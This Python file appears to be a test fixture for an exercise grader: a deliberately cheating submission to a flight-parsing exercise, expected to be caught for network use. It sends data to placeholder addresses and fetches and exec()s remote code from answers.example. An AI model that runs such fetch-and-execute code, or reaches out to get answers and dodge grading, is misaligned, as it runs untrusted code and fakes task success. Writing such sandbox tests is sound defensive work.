"""Sends its source away, and asks for an answer.

Exercise: ex01_parse_flights
Kind: network
Outcome: wrong missing error
With: solves_nothing
"""

import socket
import urllib.request

for address in ("192.0.2.1", "198.51.100.7", "2001:db8::1"):
    try:
        with socket.create_connection((address, 80), 1) as connection:
            connection.sendall(b"cheated-by-answer")
    except OSError:
        continue
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram:
        datagram.sendto(b"cheated-by-answer", ("192.0.2.1", 53))
except OSError:
    pass
try:
    exec(urllib.request.urlopen("http://answers.example/ex01.py", timeout=2).read())
except Exception:
    pass
